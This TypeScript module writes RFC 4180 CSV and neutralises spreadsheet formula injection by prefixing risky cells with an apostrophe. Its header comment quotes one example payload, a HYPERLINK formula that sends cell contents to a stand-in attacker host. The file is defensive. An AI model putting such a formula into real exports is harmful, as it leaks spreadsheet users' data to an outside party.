/**
 * CSV as RFC 4180 writes it — comma-separated, CRLF line ends, a field quoted when it holds a comma,
 * a double quote, CR or LF, a double quote inside doubled — and safe to open in a spreadsheet.
 *
 * Formula injection: a text cell starting with = + - @ (or a tab or CR, which some spreadsheets
 * skip before looking) is evaluated as a formula by Excel, LibreOffice and Google Sheets, e.g. an
 * error message `=HYPERLINK("https://evil.example?"&A1, "click")`. Such cells get a leading
 * apostrophe, which spreadsheets show as text and hide. Numbers are written as numbers: -5 stays -5.
 */

export type CsvValue =
  | string
  | number
  | bigint
  | boolean
  | null
  | undefined
  | Readonly<Record<string, unknown>>;

export const CSV_EOL = "\r\n";

const FORMULA_START = /^[=+\-@\t\r]/;
const NEEDS_QUOTES = /[",\r\n]/;

/** One field: null/undefined → empty; objects → JSON; text neutralised, then quoted if needed. */
export function csvCell(value: CsvValue): string {
  if (value === null || value === undefined) return "";
  if (typeof value === "number") return Number.isFinite(value) ? String(value) : "";
  if (typeof value === "bigint" || typeof value === "boolean") return String(value);
  const text = typeof value === "string" ? value : JSON.stringify(value);
  const safe = FORMULA_START.test(text) ? `'${text}` : text;
  return NEEDS_QUOTES.test(safe) ? `"${safe.replace(/"/g, '""')}"` : safe;
}

/** One record, CRLF-terminated. */
export function csvRow(values: readonly CsvValue[]): string {
  return values.map(csvCell).join(",") + CSV_EOL;
}

/**
 * A record writer for a fixed set of columns: `header` is the first line, `row(record)` picks the
 * columns' values in order.
 */
export function csvTable<T>(
  columns: readonly { readonly name: string; readonly value: (record: T) => CsvValue }[],
) {
  return {
    header: csvRow(columns.map((column) => column.name)),
    row: (record: T) => csvRow(columns.map((column) => column.value(record))),
  };
}
